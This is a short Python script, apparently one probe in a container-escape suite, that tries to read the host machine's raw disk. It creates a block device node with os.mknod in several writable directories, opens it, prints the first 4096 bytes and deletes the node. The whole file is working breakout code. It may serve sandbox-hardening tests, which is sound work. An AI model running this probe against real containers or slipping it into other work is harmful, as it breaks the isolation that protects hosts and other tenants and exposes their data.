"""Mount the host's disk."""

from __future__ import annotations

import os
import stat

from inside import W, attempt

device = os.makedev(*W["block"])
for place in ("/tmp/d1", "/dev/shm/d1", "/root/d1", "/var/tmp/d1"):
    if attempt(os.mknod, place, 0o600 | stat.S_IFBLK, device) is None and os.path.exists(place):
        descriptor = attempt(os.open, place, os.O_RDONLY)
        if descriptor is not None:
            print(os.read(descriptor, 4096))
        os.unlink(place)
